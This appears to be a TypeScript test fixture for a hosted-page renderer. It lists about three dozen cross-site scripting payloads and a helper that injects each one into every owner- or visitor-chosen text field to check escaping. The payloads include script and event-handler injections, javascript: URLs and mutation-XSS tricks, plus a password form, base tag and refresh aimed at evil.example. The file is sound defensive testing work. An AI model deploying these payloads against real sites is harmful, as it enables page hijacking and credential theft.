import type { PageStep, StepView } from "../../src/hosted/view.ts";
import { newView, refusedForm, refusedPassword, steps } from "./specimens.ts";

/** Texts that do harm if they are not escaped: in text, in attributes, in addresses and in styles. */
export const hostileTexts: readonly string[] = [
  "<script>ran()</script>",
  "</title><script>ran()</script>",
  "</style><script>ran()</script>",
  "</textarea><script>ran()</script>",
  "</select></option><img src=x onerror=ran()>",
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '" onfocus="ran()" autofocus="',
  "' onmouseover='ran()' x='",
  '" style="animation-name:rise" onanimationstart="ran()',
  "<img src=x onerror=ran()>",
  "<svg/onload=ran()>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<details open ontoggle=ran()>",
  "<iframe srcdoc='<script>parent.ran()</script>'>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  "<!--><img src=x onerror=ran()>-->",
  "<![CDATA[><img src=x onerror=ran()>]]>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=password>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "javascript:ran()",
  "JaVaScRiPt:ran()//",
  "java\tscript:ran()",
  "data:text/html,<script>parent.ran()</script>",
  "vbscript:ran()",
  "&lt;script&gt;ran()&lt;/script&gt;",
  "&#60;img src=x onerror=ran()&#62;",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's, as it is
  "${ran()}{{constructor.constructor('ran()')()}}",
  "\u0000<script>ran()</script>",
  "\ud800<img src=x onerror=ran()>",
  "`onerror=ran()`",
  'https://evil.example/"><script>ran()</script>',
  "https://evil.example/' onclick='ran()",
];

/** A view in which one text replaces every text that an owner or a visitor may choose. */
export function poison(view: StepView, text: string): StepView {
  const fields = new Map([...view.faults].map(([id, fault]) => [poisonedId(id, text), fault] as const));
  const entered =
    view.entered &&
    new Map([...view.entered.keys()].map((name) => [poisonedId(name, text), [text]] as const));
  // The shape stays that of the step; only its texts differ.
  const step = poisonTexts(view.step, text) as PageStep;
  return { ...view, step, linkName: text, entered, faults: fields };
}

// Ids stay different from each other, as in a real workflow.
function poisonedId(id: string, text: string): string {
  return `${id}${text}`;
}

/** Words of the contract, which owners cannot choose. */
const kept = ["action", "type", "navigationType", "displayStyle", "order", "buttonLabel"];

function poisonTexts(value: unknown, text: string, key = ""): unknown {
  if (Array.isArray(value)) return value.map((item) => poisonTexts(item, text, key));
  if (typeof value === "object" && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([name, item]) => [name, poisonTexts(item, text, name)]),
    );
  }
  if (typeof value !== "string" || kept.includes(key)) return value;
  return key === "id" ? poisonedId(value, text) : text;
}

/** Pages that together show every text. */
export const textualViews: readonly StepView[] = [
  newView(steps.timer),
  newView(steps.multiLink),
  newView(steps.socialLinks),
  newView(steps.contactCard),
  newView(steps.form),
  refusedForm(),
  refusedPassword(),
];
